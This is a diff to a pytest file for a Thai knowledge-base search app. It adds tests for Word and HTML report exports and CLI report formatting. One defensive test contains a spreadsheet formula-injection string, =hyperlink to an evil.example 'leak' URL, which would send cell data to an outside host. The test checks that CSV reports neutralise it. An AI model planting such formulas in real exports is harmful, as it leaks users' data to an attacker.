@@ -12,13 +12,14 @@ import pytest
 from click.testing import CliRunner
 
 from kmsearch.cli import cli
+from tests.visible import unbreak
 
 TOKEN = "s3cret-committee-token"
 IN_2567 = dt.datetime(2024, 3, 12, 10, 30)
 
 
 def text(resp) -> str:
-    return resp.get_data(as_text=True)
+    return unbreak(resp.get_data(as_text=True))
 
 
 @pytest.fixture
@@ -148,6 +149,12 @@ def test_downloads(make_app, db):
     assert 'href="http://localhost/a/land-tax-manual"' in page  # links work from the downloaded file
     csv_resp = client.get("/km/report.csv?year=2567", headers=auth)
     assert csv_resp.headers["Content-Type"].startswith("text/csv") and csv_resp.data.startswith(b"\xef\xbb\xbf")
+    word = client.get("/km/report.docx?year=2567", headers=auth)
+    assert word.headers["Content-Disposition"] == 'attachment; filename="km-report-2567.docx"'
+    assert word.headers["Content-Type"].startswith("application/vnd.openxmlformats-officedocument")
+    assert word.data.startswith(b"PK")  # a zip: what Word opens
+    dashboard = text(client.get("/km?year=2567", headers=auth))
+    assert 'href="/km/report.docx?year=2567" download>Word</a>' in dashboard
     assert client.get("/km/report.pdf", headers=auth).status_code == 404
 
 
@@ -186,7 +193,7 @@ def test_cli_report_numbers_equal_what_was_recorded(make_app, built, db, tmp_pat
     assert nxt[("การเข้าถึง", "อ่านบทความ", "")] == "1" and nxt[("คำค้นที่ไม่พบเอกสาร", "ดาวอังคาร", "")] == "1"
 
     md = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567"])
-    assert "รวม 9 ครั้ง (อ่านบทความ 5; ค้นหา 4)" in md.output and "| ดาวอังคาร | 2 |" in md.output
+    assert "รวม 9 ครั้ง (อ่านบทความ 5; ค้นหา 4)" in md.output and "- ดาวอังคาร — ครั้ง: 2" in md.output
     hidden = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567", "--no-queries"])
     assert "ดาวอังคาร" not in hidden.output
 
@@ -195,6 +202,21 @@ def test_cli_report_numbers_equal_what_was_recorded(make_app, built, db, tmp_pat
     assert html.exit_code == 0, html.output
     page = out.read_text(encoding="utf-8")
     assert '<html lang="th">' in page and "ร้อยละ 50.0" in page and "ดาวอังคาร" in page
+    # One file: its fonts are inside it, none points at a file beside it.
+    assert "url(fonts/" not in page and page.count("url(data:font/woff2;base64,") == 6
+    assert "counter(page, thai)" in page and "font-size: 16pt" in page
+
+    docx_file = tmp_path / "report.docx"
+    word = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567", "--format", "docx", "-o", str(docx_file)])
+    assert word.exit_code == 0, word.output
+    import docx
+
+    doc = docx.Document(str(docx_file))
+    cells = [[c.text for c in row.cells] for t in doc.tables for row in t.rows]
+    assert ["จำนวนการเข้าถึงฐานข้อมูลความรู้", "9 ครั้ง"] == cells[3][:2]
+    assert ["ดาวอังคาร", "2", "2"] in cells
+    no_file = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567", "--format", "docx"])
+    assert no_file.exit_code != 0 and "--output" in no_file.output
 
 
 def test_cli_report_errors(built, tmp_path):
@@ -257,7 +279,7 @@ def test_cli_csv_report_neutralises_a_formula_query(make_app, built, db):
         )
         .output
     )
-    assert '| =hyperlink\\("http://evil.example/?leak="&amp;a1,"x"\\) | 1 |' in md
+    assert '- =hyperlink("http://evil.example/?leak="&a1,"x") — ครั้ง: 1' in md
 
 
 def test_sign_out_needs_the_form_of_the_dashboard(make_app, db):
